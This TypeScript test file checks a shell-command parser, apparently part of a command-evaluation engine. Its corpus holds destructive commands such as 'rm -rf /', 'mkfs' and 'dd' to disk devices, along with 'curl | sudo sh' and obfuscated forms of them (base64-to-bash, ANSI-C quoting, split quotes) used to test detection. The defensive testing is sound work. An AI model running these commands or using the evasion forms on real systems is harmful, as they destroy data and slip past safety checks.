import { beforeAll, describe, expect, it } from 'vitest';
import { extractShellFacts, initShellParser } from '../../../../engine/evaluation/facts/shell-facts.ts';

beforeAll(async () => {
  await initShellParser();
});

type Expected = { argv: string[]; [fact: string]: unknown };

/** line → every simple command expected, in order (each a subset match). */
const CORPUS: Array<{ name: string; text: string; commands: Expected[] }> = [
  { name: 'one command', text: 'uname -a', commands: [{ argv: ['uname', '-a'], dynamic: false }] },
  {
    name: 'a pipeline',
    text: 'ps aux | grep nginx | wc -l',
    commands: [{ argv: ['ps', 'aux'] }, { argv: ['grep', 'nginx'], stdin: 'pipe' }, { argv: ['wc', '-l'], stdin: 'pipe' }],
  },
  {
    name: 'lists with ; && ||',
    text: 'cd /tmp; ls && rm -rf / || echo no',
    commands: [{ argv: ['cd', '/tmp'] }, { argv: ['ls'] }, { argv: ['rm', '-rf', '/'] }, { argv: ['echo', 'no'] }],
  },
  { name: 'a subshell', text: '(cd / && rm -rf *)', commands: [{ argv: ['cd', '/'] }, { argv: ['rm', '-rf', '*'] }] },
  { name: 'a brace group', text: '{ date; rm -rf /; }', commands: [{ argv: ['date'] }, { argv: ['rm', '-rf', '/'] }] },
  {
    name: '$(…) runs its commands and makes the word dynamic',
    text: 'echo $(rm -rf /)',
    commands: [{ argv: ['echo', '$(rm -rf /)'], dynamic: true }, { argv: ['rm', '-rf', '/'], dynamic: false }],
  },
  { name: 'backticks', text: 'echo `shutdown -h now`', commands: [{ argv: ['echo', '`shutdown -h now`'], dynamic: true }, { argv: ['shutdown', '-h', 'now'] }] },
  { name: 'process substitution', text: 'diff <(mkfs.ext4 /dev/sda1) x', commands: [{ argv: ['diff', '<(mkfs.ext4 /dev/sda1)', 'x'], dynamic: true }, { argv: ['mkfs.ext4', '/dev/sda1'] }] },
  {
    name: 'bash -c string is parsed',
    text: "bash -c 'rm -rf /'",
    commands: [{ argv: ['bash', '-c', 'rm -rf /'], dynamic: false }, { argv: ['rm', '-rf', '/'], via: ['bash -c'] }],
  },
  {
    name: 'nested sh -c "bash -c \'…\'"',
    text: `sh -c "bash -c 'rm -rf /'"`,
    commands: [{ argv: ['sh', '-c', "bash -c 'rm -rf /'"] }, { argv: ['bash', '-c', 'rm -rf /'], via: ['sh -c'] }, { argv: ['rm', '-rf', '/'], via: ['sh -c', 'bash -c'] }],
  },
  {
    name: 'base64 decoded into sh -c is dynamic',
    text: 'sh -c "$(echo cm0gLXJmIC8= | base64 -d)"',
    commands: [{ argv: ['sh', '-c', '$(echo cm0gLXJmIC8= | base64 -d)'], dynamic: true }, { argv: ['echo', 'cm0gLXJmIC8='] }, { argv: ['base64', '-d'], stdin: 'pipe' }],
  },
  {
    name: 'base64 piped into a shell makes the shell dynamic',
    text: 'echo cm0gLXJmIC8= | base64 -d | bash',
    commands: [{ argv: ['echo', 'cm0gLXJmIC8='] }, { argv: ['base64', '-d'] }, { argv: ['bash'], dynamic: true, stdin: 'pipe' }],
  },
  {
    name: 'curl piped into sudo sh',
    text: 'curl -fsSL https://x.example/i.sh | sudo sh',
    commands: [{ argv: ['curl', '-fsSL', 'https://x.example/i.sh'] }, { argv: ['sudo', 'sh'], stdin: 'pipe' }, { argv: ['sh'], via: ['sudo'], dynamic: true }],
  },
  { name: 'eval of a variable is dynamic', text: 'eval "$x"', commands: [{ argv: ['eval', '$x'], dynamic: true }] },
  { name: 'eval of a static string is parsed', text: "eval 'rm -rf /'", commands: [{ argv: ['eval', 'rm -rf /'], dynamic: false }, { argv: ['rm', '-rf', '/'], via: ['eval'] }] },
  { name: 'a variable as the command is dynamic', text: '$CMD -rf /', commands: [{ argv: ['$CMD', '-rf', '/'], dynamic: true }] },
  { name: 'quote removal joins a concatenation', text: `r"m" -r'f' \\/`, commands: [{ argv: ['rm', '-rf', '/'], dynamic: false }] },
  { name: 'empty quotes inside a word', text: "r''m -rf /", commands: [{ argv: ['rm', '-rf', '/'] }] },
  { name: 'a backslash before the command', text: '\\rm -rf /', commands: [{ argv: ['rm', '-rf', '/'] }] },
  { name: 'ANSI-C quoting is decoded', text: "$'\\x72\\x6d' -rf /", commands: [{ argv: ['rm', '-rf', '/'], dynamic: false }] },
  { name: 'escapes in double quotes', text: 'echo "a\\"b\\$c"', commands: [{ argv: ['echo', 'a"b$c'], dynamic: false }] },
  { name: 'a variable in double quotes is dynamic', text: 'echo "hi $USER"', commands: [{ argv: ['echo', 'hi $USER'], dynamic: true }] },
  { name: 'brace expansion is dynamic', text: 'r{m,} -rf /', commands: [{ argv: ['r{m,}', '-rf', '/'], dynamic: true }] },
  {
    name: 'sudo, env and timeout are unwrapped',
    text: 'env -i PATH=/bin sudo -u root timeout 5 rm -rf /',
    commands: [
      { argv: ['env', '-i', 'PATH=/bin', 'sudo', '-u', 'root', 'timeout', '5', 'rm', '-rf', '/'] },
      { argv: ['sudo', '-u', 'root', 'timeout', '5', 'rm', '-rf', '/'], via: ['env'] },
      { argv: ['timeout', '5', 'rm', '-rf', '/'], via: ['env', 'sudo'] },
      { argv: ['rm', '-rf', '/'], via: ['env', 'sudo', 'timeout'] },
    ],
  },
  { name: 'sudo sh -c', text: "sudo sh -c 'mkfs.ext4 /dev/sdb'", commands: [{ argv: ['sudo', 'sh', '-c', 'mkfs.ext4 /dev/sdb'] }, { argv: ['sh', '-c', 'mkfs.ext4 /dev/sdb'], via: ['sudo'] }, { argv: ['mkfs.ext4', '/dev/sdb'], via: ['sudo', 'sh -c'] }] },
  { name: 'find -exec runs a command', text: 'find / -exec rm -rf {} \\;', commands: [{ argv: ['find', '/', '-exec', 'rm', '-rf', '{}', ';'] }, { argv: ['rm', '-rf', '{}'], via: ['find'], dynamic: true }] },
  { name: 'xargs runs a command with arguments from stdin', text: 'echo / | xargs rm -rf', commands: [{ argv: ['echo', '/'] }, { argv: ['xargs', 'rm', '-rf'] }, { argv: ['rm', '-rf'], via: ['xargs'], dynamic: true }] },
  {
    name: 'redirection to a device',
    text: 'cat /dev/zero > /dev/sda',
    commands: [{ argv: ['cat', '/dev/zero'], redirects: [{ op: '>', target: '/dev/sda' }] }],
  },
  { name: 'dd to a device', text: 'dd if=/dev/zero of=/dev/sda bs=1M', commands: [{ argv: ['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M'] }] },
  {
    name: 'a heredoc fed to bash is parsed',
    text: 'bash <<EOF\nrm -rf /\nEOF\n',
    commands: [{ argv: ['bash'], stdin: 'heredoc' }, { argv: ['rm', '-rf', '/'], via: ['bash'] }],
  },
  { name: 'a here-string fed to sh is parsed', text: 'sh <<< "shutdown now"', commands: [{ argv: ['sh'], stdin: 'herestring' }, { argv: ['shutdown', 'now'], via: ['sh'] }] },
  { name: 'an assignment prefix is recorded', text: 'LD_PRELOAD=/tmp/x.so ls', commands: [{ argv: ['ls'], assignments: ['LD_PRELOAD=/tmp/x.so'] }] },
  {
    name: 'a command substitution in an assignment runs',
    text: 'X=$(reboot)',
    commands: [{ argv: [], assignments: ['X=$(reboot)'], dynamic: true, setsShellState: true, sets: ['X'] }, { argv: ['reboot'] }],
  },
  { name: 'export with a substitution', text: 'export X=$(halt)', commands: [{ argv: ['export', 'X=$(halt)'], dynamic: true }, { argv: ['halt'] }] },
  {
    name: 'a function body, and the definition as a shell-state change',
    text: 'f() { rm -rf /; }; f',
    commands: [{ argv: ['f()'], name: '', defines: 'f', setsShellState: true }, { argv: ['rm', '-rf', '/'] }, { argv: ['f'] }],
  },
  { name: 'if and for bodies', text: 'if true; then shutdown now; fi; for i in 1 2; do poweroff; done', commands: [{ argv: ['true'] }, { argv: ['shutdown', 'now'] }, { argv: ['poweroff'] }] },
  { name: 'a comment is not a command', text: 'ls # ; rm -rf /', commands: [{ argv: ['ls'] }] },
  { name: 'a path-qualified command keeps its argv', text: '/bin/rm -rf /', commands: [{ argv: ['/bin/rm', '-rf', '/'] }] },
  { name: 'su -c string', text: "su - root -c 'rm -rf /'", commands: [{ argv: ['su', '-', 'root', '-c', 'rm -rf /'] }, { argv: ['rm', '-rf', '/'], via: ['su -c'] }] },
  { name: 'an empty line has no commands', text: '   ', commands: [] },
  { name: 'a line continuation inside a command name joins it (r\\⏎m is rm)', text: 'r\\\nm -rf /', commands: [{ argv: ['rm', '-rf', '/'], dynamic: false }] },
  { name: 'a line continuation inside an argument joins it', text: 'rm -r\\\nf /', commands: [{ argv: ['rm', '-rf', '/'] }] },
  { name: 'a line continuation after a space still separates words', text: 'rm \\\n-rf /', commands: [{ argv: ['rm', '-rf', '/'] }] },
  {
    name: 'a heredoc piped into sh makes sh dynamic',
    text: 'cat <<EOF | sh\nrm -rf /\nEOF',
    commands: [{ argv: ['cat'], dynamic: false }, { argv: ['sh'], dynamic: true, stdin: 'pipe' }],
  },
  {
    name: 'coproc runs its command and makes the line unreadable',
    text: 'coproc rm -rf /',
    commands: [
      { argv: ['coproc', 'rm', '-rf', '/'], dynamic: true, unreadable: true },
      { argv: ['rm', '-rf', '/'], via: ['coproc'], dynamic: true, reasons: ['coproc is not read by the engine'] },
      { argv: ['coproc rm -rf /'], name: '', dynamic: true, unreadable: true },
    ],
  },
  { name: 'a glob in the command word is unreadable', text: '/bin/r? -rf /d', commands: [{ argv: ['/bin/r?', '-rf', '/d'], dynamic: true, unreadable: true, reasons: ["the command word '/bin/r?' is a pathname pattern"] }] },
  { name: 'a bracket glob in the command word is unreadable', text: '/usr/bin/[r]m x', commands: [{ argv: ['/usr/bin/[r]m', 'x'], dynamic: true }] },
  { name: 'a quoted glob character in the command word is a plain character', text: "'ls?' x", commands: [{ argv: ['ls?', 'x'], dynamic: false }] },
  { name: '$"…" is translated at run time', text: '$"rm" -rf /d', commands: [{ argv: ['$rm', '-rf', '/d'], dynamic: true, reasons: ['$"…" is translated at run time'] }] },
  { name: 'a trap action is read as code', text: "trap 'rm -rf /d' EXIT", commands: [{ argv: ['trap', 'rm -rf /d', 'EXIT'], setsShellState: true }, { argv: ['rm', '-rf', '/d'], via: ['trap'] }] },
  { name: 'script -c runs its string (cluster -qc)', text: "script -qc 'rm -rf /d' /dev/null", commands: [{ argv: ['script', '-qc', 'rm -rf /d', '/dev/null'] }, { argv: ['rm', '-rf', '/d'], via: ['script -c'] }] },
  { name: 'ssh with a remote command is unreadable', text: 'ssh -p 22 db1 rm -rf /', commands: [{ argv: ['ssh', '-p', '22', 'db1', 'rm', '-rf', '/'], dynamic: true, unreadable: true }] },
  { name: 'ssh without a command is interactive', text: 'ssh db1', commands: [{ argv: ['ssh', 'db1'], dynamic: false, interactive: true }] },
  { name: 'python -c is unreadable', text: "python3 -c 'import os'", commands: [{ argv: ['python3', '-c', 'import os'], dynamic: true, unreadable: true }] },
  { name: 'perl -e in a cluster is unreadable', text: "perl -we 'system 1'", commands: [{ argv: ['perl', '-we', 'system 1'], dynamic: true, unreadable: true }] },
  { name: 'awk runs a program', text: "awk '{print $1}' f", commands: [{ argv: ['awk', '{print $1}', 'f'], dynamic: true, unreadable: true }] },
  { name: 'ip -batch runs a file', text: 'ip -ba cmds', commands: [{ argv: ['ip', '-ba', 'cmds'], dynamic: true, unreadable: true }] },
  { name: 'ip netns exec runs a command', text: 'ip netns exec blue rm -rf /', commands: [{ argv: ['ip', 'netns', 'exec', 'blue', 'rm', '-rf', '/'] }, { argv: ['rm', '-rf', '/'], via: ['ip netns exec'] }] },
  { name: 'a compress program runs code', text: 'sort --compress-program=sh x', commands: [{ argv: ['sort', '--compress-program=sh', 'x'], dynamic: true, unreadable: true }] },
  { name: 'printf -v sets a variable', text: "printf -v PROMPT_COMMAND 'rm -f F'", commands: [{ argv: ['printf', '-v', 'PROMPT_COMMAND', 'rm -f F'], setsShellState: true, sets: ['PROMPT_COMMAND'] }] },
  { name: 'an assignment on its own sets shell state', text: "PS1='$(id)'", commands: [{ argv: [], name: '', assignments: ['PS1=$(id)'], setsShellState: true, sets: ['PS1'] }] },
  { name: 'read reads input and sets its variables', text: 'read -r PS1', commands: [{ argv: ['read', '-r', 'PS1'], readsInput: true, setsShellState: true, sets: ['PS1'] }] },
  { name: 'options and operands are split as getopt would', text: 'sort -r data -o out', commands: [{ argv: ['sort', '-r', 'data', '-o', 'out'], options: ['-r', '-o'], operands: ['data', 'out'] }] },
  { name: 'after -- every word is an operand', text: 'ls -l -- -x', commands: [{ options: ['-l'], operands: ['-x'], argv: ['ls', '-l', '--', '-x'] }] },
  { name: 'a redirect names its descriptor', text: 'echo x 2>&1 >& out', commands: [{ argv: ['echo', 'x'], redirects: [{ op: '>&', target: '1', fd: 2 }, { op: '>&', target: 'out' }] }] },
  { name: 'arithmetic on variables is dynamic', text: '(( n + 1 ))', commands: [{ argv: ['((', '(( n + 1 ))', '))'], dynamic: true }] },
  { name: 'a bare shell is interactive', text: 'bash', commands: [{ argv: ['bash'], interactive: true }] },
];

describe('shell facts corpus', () => {
  for (const entry of CORPUS) {
    it(`${entry.name}: ${entry.text.replace(/\n/g, '\\n')}`, () => {
      const facts = extractShellFacts(entry.text);
      expect(facts.parseError).toBeUndefined();
      expect(facts.commands.map((c) => c.argv)).toEqual(entry.commands.map((c) => c.argv));
      entry.commands.forEach((expected, i) => expect(facts.commands[i]).toMatchObject(expected));
    });
  }

  it('a path-qualified command has its base name in `name`', () => {
    expect(extractShellFacts('/usr/sbin/shutdown -r now').commands[0]).toMatchObject({ name: 'shutdown' });
  });
});

describe('shell facts errors', () => {
  for (const [name, ch] of [['carriage return', '\r'], ['vertical tab', '\v'], ['form feed', '\f'], ['NUL', '\0'], ['escape', '\x1b'], ['delete', '\x7f']] as const) {
    it(`a ${name} anywhere in the line is refused with a reason naming it`, () => {
      const facts = extractShellFacts(`true ${ch}#; rm -f /tmp/x`);
      expect(facts.commands).toEqual([]);
      expect(facts.parseError).toMatch(new RegExp(`control character U\\+00[0-9A-F]{2} \\(${name}\\)`));
    });
  }

  it('a coproc with a compound body is refused (the parser reads its braces as commands)', () => {
    expect(extractShellFacts('coproc X { rm -rf /d; }').parseError).toMatch(/reserved word '}'/);
  });

  for (const [text, pattern] of [
    ['df - 2>&1', /skipped " - "/],
    ['a | ! b', /'!' inside a pipeline/],
    ["cat <<'EOF'\nx\nEOF ; rm -rf /d", /delimiter line/],
    ['ls;;rm -rf /d', /';;' outside a case/],
    ["stat $'%s\\\\'n F 'it'\\''s'", /ends elsewhere for bash/],
  ] as const) {
    it(`a line the parser misreads is refused: ${JSON.stringify(text)}`, () => {
      expect(extractShellFacts(text).parseError).toMatch(pattern);
    });
  }

  it('a number before a redirect is its descriptor, and a word after a redirect is an argument', () => {
    expect(extractShellFacts('cat 0<F 2>/dev/null 0<&0').commands[0]).toMatchObject({ argv: ['cat'], redirects: [{ op: '<', fd: 0 }, { op: '>', fd: 2 }, { op: '<&', fd: 0 }] });
    expect(extractShellFacts('echo 2>&1 rm').commands[0]).toMatchObject({ argv: ['echo', 'rm'] });
  });

  it('tab and newline are ordinary blanks', () => {
    expect(extractShellFacts('ls\t-l\nuptime').parseError).toBeUndefined();
  });

  it('an unterminated quote is a parse error', () => {
    const facts = extractShellFacts('echo "unterminated');
    expect(facts.commands).toEqual([]);
    expect(facts.parseError).toMatch(/shell syntax error/);
  });

  it('a syntax error inside a bash -c string is a parse error naming it', () => {
    expect(extractShellFacts("bash -c 'ls; ('").parseError).toMatch(/inside bash -c/);
  });

  it('a dangling pipe is a parse error', () => {
    expect(extractShellFacts('ls |').parseError).toMatch(/shell syntax error/);
  });

  it('sh -c nested beyond the depth limit is refused', () => {
    let line = 'ls';
    for (let i = 0; i < 20; i++) line = `sh -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    expect(extractShellFacts(line).parseError).toMatch(/nested more than/);
  });
});
